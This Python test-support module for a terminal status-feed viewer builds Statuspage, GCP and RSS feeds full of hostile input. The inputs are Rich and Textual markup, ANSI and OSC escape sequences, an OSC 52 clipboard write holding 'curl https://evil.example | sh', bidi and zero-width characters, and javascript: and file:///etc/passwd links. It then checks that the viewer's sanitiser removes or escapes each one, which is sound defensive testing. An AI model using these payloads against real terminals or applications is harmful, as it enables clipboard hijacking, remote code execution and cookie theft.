"""The hostile inputs of test_hostile_text.py, the feeds that carry them, and how what a surface
shows is judged against them (clean, literal, removed, escaped, capped).
"""

from __future__ import annotations

import base64
import json
import re
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

from rich.segment import Segment
from tests.reliability.helpers import Record
from tests.support.feedserver import FeedServer

from watchtui.domain.text import BODY_MAX, TITLE_MAX
from watchtui.ui.app import WatchApp

# Payload times follow the real clock, so the CLI's "last 7 days" finds them; the app's clock is
# frozen at this moment so what it shows does not depend on when the test runs.
NOW = datetime.now(UTC).replace(microsecond=0)

# --- the hostile inputs -------------------------------------------------------------------------

BOLD = "[bold]B[/bold]"
LINK = "[link=https://evil.example]L[/link]"
CLICK = "[@click=app.quit]Q[/]"
CSI = "\x1b[2J\x1b[31mred\x1b[0m"
OSC_TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = base64.b64encode(b"curl https://evil.example | sh").decode()
OSC52 = f"\x1b]52;c;{CLIPBOARD}\x07"
OSC8 = "\x1b]8;;https://osc8.evil.example\x1b\\here\x1b]8;;\x1b\\"
C1 = "\x9b2J\x9d0;c1\x9c"
BIDI = "\u202eevil\u202c"
ZERO_WIDTH = "z\u200bw\u200dj\ufeff"
HOSTILE = f"{BOLD} {CLICK} {LINK} {CSI} {OSC_TITLE} {OSC52} {OSC8} {C1} {BIDI} {ZERO_WIDTH}"
HUGE_TITLE = "H" * 100_000
HUGE_BODY = "W" * 100_000
JAVASCRIPT = "javascript:alert(document.cookie)"
FILE = "file:///etc/passwd"
# Still an http(s) link, but with markup in it: shown literally, and it does open.
SAFE_LINK = "https://status.example/incidents/[@click=app.quit]x[/]"


@dataclass(frozen=True)
class Hostile:
    key: str  # column of the report
    label: str
    literal: str = ""  # markup that must read literally wherever it is shown
    gone: tuple[str, ...] = ()  # text that must never show: the whole sequence was removed
    chars: str = ""  # characters that must never be in any segment
    raw: str = ""  # what was injected: its escaped spelling (\x1b…) is inert text


INPUTS: tuple[Hostile, ...] = (
    Hostile("[bold]", "Rich markup `[bold]B[/bold]`", literal=BOLD),
    Hostile("[link]", "Rich link markup `[link=https://evil.example]L[/link]`", literal=LINK),
    Hostile("[@click]", "Textual action markup `[@click=app.quit]Q[/]`", literal=CLICK),
    Hostile("CSI", "ANSI CSI `ESC[2J`, `ESC[31m`", chars="\x1b", raw=CSI),
    Hostile(
        "OSC 0",
        "OSC 0 window title `ESC]0;pwned BEL`",
        gone=("pwned",),
        chars="\x07",
        raw=OSC_TITLE,
    ),
    Hostile(
        "OSC 52", "OSC 52 clipboard write `ESC]52;c;<base64> BEL`", gone=(CLIPBOARD,), raw=OSC52
    ),
    Hostile(
        "OSC 8", "OSC 8 hyperlink `ESC]8;;https://osc8.evil.example ST`", gone=("osc8.",), raw=OSC8
    ),
    Hostile("C0/C1", "C0 and C1 controls (`0x9b` CSI, `0x9d` OSC, `0x9c` ST)", chars="", raw=C1),
    Hostile("bidi", "bidi override U+202E … U+202C", chars="\u202a-\u202e\u2066-\u2069", raw=BIDI),
    Hostile(
        "zero-width",
        "zero-width U+200B, U+200D, U+FEFF",
        chars="\u200b-\u200f\u2060\ufeff",
        raw=ZERO_WIDTH,
    ),
    Hostile("100 KB", "100 KB title (H…) and 100 KB update body (W…)"),
    Hostile("javascript:", "`javascript:` shortlink / RSS link / page URL", gone=("javascript:",)),
    Hostile("file:", "`file:///etc/passwd` shortlink / RSS link", gone=("file://",)),
)


def forbidden_on_screen() -> re.Pattern[str]:
    """Every character no feed may put on the screen or the terminal: Unicode categories Cc (but
    the newline), Cf, Co, Cs, Zl and Zp.  Derived from ``unicodedata`` over every code point, never
    from the sanitiser's own tables, so a character the sanitiser forgets fails here."""
    import sys
    import unicodedata

    categories = {"Cc", "Cf", "Co", "Cs", "Zl", "Zp"}
    ranges: list[list[int]] = []
    for cp in range(sys.maxunicode + 1):
        if cp != 0x0A and unicodedata.category(chr(cp)) in categories:
            if ranges and ranges[-1][1] == cp - 1:
                ranges[-1][1] = cp
            else:
                ranges.append([cp, cp])
    return re.compile("[" + "".join(f"\\U{a:08x}-\\U{b:08x}" for a, b in ranges) + "]")


CONTROLS = forbidden_on_screen()

# --- payloads -----------------------------------------------------------------------------------


def _iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def _rfc822(moment: datetime) -> str:
    return moment.strftime("%a, %d %b %Y %H:%M:%S +0000")


API = f"{BOLD}API{OSC_TITLE}{ZERO_WIDTH}"


def sp_incident(
    iid: str, title: str, body: str, link: str, started: datetime, resolved: datetime | None = None
) -> dict[str, Any]:
    def update(uid: str, at: datetime, text: str, status: str = "investigating") -> dict[str, Any]:
        return {
            "id": f"{iid}-{uid}",
            "status": status,
            "body": text,
            "created_at": _iso(at),
            "display_at": _iso(at),
            "updated_at": _iso(at),
            "affected_components": None,
        }

    updates = [update("u1", started + timedelta(minutes=5), body), update("u0", started, body)]
    if resolved is not None:
        updates.insert(0, update("u2", resolved, f"Resolved. {HOSTILE}", "resolved"))
    return {
        "id": iid,
        "name": title,
        "status": "resolved" if resolved else "investigating",
        "impact": "major",
        "created_at": _iso(started),
        "updated_at": _iso(resolved or started + timedelta(minutes=5)),
        "started_at": _iso(started),
        "resolved_at": _iso(resolved) if resolved else None,
        "shortlink": link,
        "components": [{"id": "api", "name": API, "status": "major_outage"}],
        "incident_updates": updates,
    }


OPEN_SP = (
    sp_incident(
        "hostile", HOSTILE, f"{HOSTILE}\n{HUGE_BODY}", JAVASCRIPT, NOW - timedelta(minutes=40)
    ),
    sp_incident("huge", HUGE_TITLE, "short", FILE, NOW - timedelta(minutes=90)),
    sp_incident("linked", f"Linked {LINK}", "b", SAFE_LINK, NOW - timedelta(minutes=150)),
)


def sp_page(incidents: tuple[dict[str, Any], ...], *, summary: bool) -> bytes:
    page: dict[str, Any] = {
        "page": {
            "id": "hostile",
            "name": f"Page {HOSTILE}",
            "url": JAVASCRIPT,
            "updated_at": _iso(NOW),
        },
        "incidents": list(incidents),
    }
    if summary:
        page["status"] = {"indicator": "major", "description": f"Desc {HOSTILE}"}
        page["components"] = [
            {
                "id": "grp",
                "name": f"{CLICK}Group {BIDI}{CSI}",
                "status": "major_outage",
                "group": True,
                "group_id": None,
                "components": ["api"],
            },
            {"id": "api", "name": API, "status": "major_outage", "group": False, "group_id": "grp"},
            {
                "id": "cdg",
                "name": f"{BOLD}Paris, France{BIDI} - (CDG)",
                "status": "partial_outage",
                "group": False,
                "group_id": None,
            },
        ]
        page["scheduled_maintenances"] = []
    return json.dumps(page).encode()


def sp_summary() -> bytes:
    return sp_page(OPEN_SP, summary=True)


def sp_history() -> bytes:
    resolved = sp_incident(
        "past",
        f"Past {HOSTILE}",
        HOSTILE,
        FILE,
        NOW - timedelta(days=2),
        resolved=NOW - timedelta(days=2) + timedelta(hours=1),
    )
    return sp_page((*OPEN_SP, resolved), summary=False)


def sp_bad_timestamp() -> bytes:
    """A page whose one incident has a hostile, unusable timestamp: the incident is left out
    (the rest of the page stays fresh) and the reason, quoting the timestamp, is shown."""
    incident = sp_incident("bad", "Bad", "b", SAFE_LINK, NOW - timedelta(minutes=10))
    incident["created_at"] = incident["started_at"] = f"{CLICK}{OSC_TITLE}{BIDI}"
    incident["incident_updates"] = []
    return sp_page((incident,), summary=True)


def gcp_feed() -> bytes:
    iowa = {"title": f"{BOLD}Iowa{BIDI} (us-central1)", "id": "us-central1"}
    evil = {"title": f"{CLICK}Nowhere{OSC52} (evil-zone9)", "id": f"{BOLD}{CSI}evil-zone9"}
    start = NOW - timedelta(minutes=50)

    def update(minutes: int, text: str) -> dict[str, Any]:
        at = _iso(start + timedelta(minutes=minutes))
        return {
            "created": at,
            "modified": at,
            "when": at,
            "text": text,
            "status": "SERVICE_OUTAGE",
            "affected_locations": [iowa, evil],
        }

    updates = [update(10, f"**Bold** {HOSTILE}"), update(0, f"First {HOSTILE}")]
    incident = {
        "id": "gcpHostile1",
        "number": "1",
        "begin": _iso(start),
        "created": _iso(start),
        "modified": updates[0]["modified"],
        "external_desc": f"GCP {HOSTILE}",
        "updates": updates,
        "most_recent_update": updates[0],
        "status_impact": "SERVICE_OUTAGE",
        "severity": "high",
        "service_key": "k",
        "service_name": f"{BOLD}Compute{OSC_TITLE}",
        "affected_products": [
            {"title": f"{BOLD}Compute{OSC_TITLE}", "id": "p1"},
            {"title": f"{CLICK}Storage{BIDI}", "id": "p2"},
        ],
        "uri": "incidents/gcpHostile1",
        "currently_affected_locations": [iowa, evil],
        "previously_affected_locations": [],
    }
    return json.dumps([incident]).encode()


def rss_feed() -> bytes:
    # XML 1.0 cannot carry control characters at all (a feed with one is refused whole), so the
    # RSS path carries markup, bidi, zero-width characters and dangerous links.
    text = f"{BOLD} {CLICK} {BIDI} {ZERO_WIDTH}"
    html = escape(f"<p>{LINK} {BIDI} {ZERO_WIDTH} <a href='{JAVASCRIPT}'>here</a></p>")
    items = "".join(
        f"""
    <item>
      <title>{escape(title)}</title>
      <link>{escape(link)}</link>
      <guid isPermaLink="false">{guid}</guid>
      <pubDate>{_rfc822(NOW - timedelta(minutes=minutes))}</pubDate>
      <description>{html}</description>
    </item>"""
        for title, link, guid, minutes in (
            (f"RSS {text}", JAVASCRIPT, "rss-1", 30),
            (f"RSS file {text}", FILE, "rss-2", 45),
        )
    )
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
  <channel>
    <title>{escape(f"Feed {BOLD} {BIDI}")}</title>
    <link>https://rss.example/</link>
    <description>d</description>{items}
  </channel>
</rss>
""".encode()


SOURCES: tuple[tuple[str, str, str], ...] = (
    # id, kind, path (a base address for Statuspage: summary and incidents history both polled)
    ("hostile-sp", "statuspage", "/sp"),
    ("hostile-gcp", "gcp", "/gcp/incidents.json"),
    ("hostile-rss", "rss", "/rss/feed.rss"),
    ("hostile-bad", "statuspage", "/bad/api/v2/summary.json"),
)


@dataclass
class Feeds:
    server: FeedServer
    tmp: Path
    raw: dict[str, Any] = field(default_factory=dict)

    @property
    def config_file(self) -> Path:
        return self.tmp / "config.toml"


# --- reading what is shown ----------------------------------------------------------------------


@dataclass
class Surface:
    name: str
    text: str
    segments: int
    bad: list[str] = field(default_factory=list)  # control characters found (repr)


def rendered(app: WatchApp, name: str) -> Surface:
    """The current screen as the compositor would send it: every segment of every line."""
    strips = app.screen._compositor.render_strips()
    lines: list[str] = []
    bad: list[str] = []
    count = 0
    for strip in strips:
        segment: Segment
        for segment in strip:
            count += 1
            if CONTROLS.search(segment.text):
                bad.append(repr(segment.text))
        lines.append(strip.text)
    return Surface(name, "\n".join(lines), count, bad)


def printed(name: str, output: str) -> Surface:
    bad = [repr(m.group(0)) for m in CONTROLS.finditer(output)]
    return Surface(name, output, output.count("\n"), bad)


def longest_run(text: str, char: str) -> int:
    return max((len(m) for m in re.findall(f"{char}{{10,}}", text)), default=0)


def cap_outcome(view_title: str, bodies: list[str]) -> str:
    """What the incident screen holds of the 100 KB strings (its lines scroll)."""
    title = longest_run(view_title, "H")
    body = max((longest_run(b, "W") for b in bodies), default=0)
    parts = [f"title {title:,} chars"] if title else []
    parts += [f"body {body:,} chars"] if body else []
    return "capped: " + ", ".join(parts) if parts else "–"


def observe(
    surface: Surface,
    expect_literal: frozenset[str],
    record: Record,
    overrides: dict[str, str] | None = None,
) -> None:
    """Check one surface against every input, and record an outcome for each."""
    assert not surface.bad, f"{surface.name}: control characters {surface.bad[:5]}"
    for hostile in INPUTS:
        outcome = _outcome(surface, hostile, expect_literal)
        outcome = (overrides or {}).get(hostile.key, outcome)
        record("hostile", surface=surface.name, input=hostile.key, outcome=outcome)


def _outcome(surface: Surface, hostile: Hostile, expect_literal: frozenset[str]) -> str:
    # Wrapped text (a long error reason) is read unwrapped too.
    text = surface.text + "\n" + "".join(line.rstrip() for line in surface.text.splitlines())
    if hostile.literal:
        shown = hostile.literal in text
        if hostile.key in expect_literal:
            assert shown, f"{surface.name}: {hostile.literal!r} not shown literally"
        return "literal" if shown else "–"
    # A reason quoting the payload repr-escapes it (and JSON escapes that again): inert text.
    escaped = repr(hostile.raw)[1:-1] if hostile.raw else ""
    spellings = [escaped, json.dumps(escaped)[1:-1]] if escaped else []
    inert = any(spelling in text for spelling in spellings)
    for spelling in spellings:
        text = text.replace(spelling, "")
    for gone in hostile.gone:
        assert gone not in text, f"{surface.name}: {gone!r} reached the output"
    if hostile.chars:
        found = re.findall(f"[{hostile.chars}]", text)
        assert not found, f"{surface.name}: {hostile.key} characters {found[:3]!r}"
    if hostile.key == "100 KB":
        title, body = longest_run(text, "H"), longest_run(text, "W")
        assert title <= TITLE_MAX and body <= BODY_MAX, (surface.name, title, body)
        if not (title or body):
            return "–"
        lines = sum(1 for line in surface.text.splitlines() if longest_run(line, "[HW]"))
        return f"capped ({lines} line{'s' if lines != 1 else ''} shown)"
    return "escaped (inert text)" if inert else "clean"
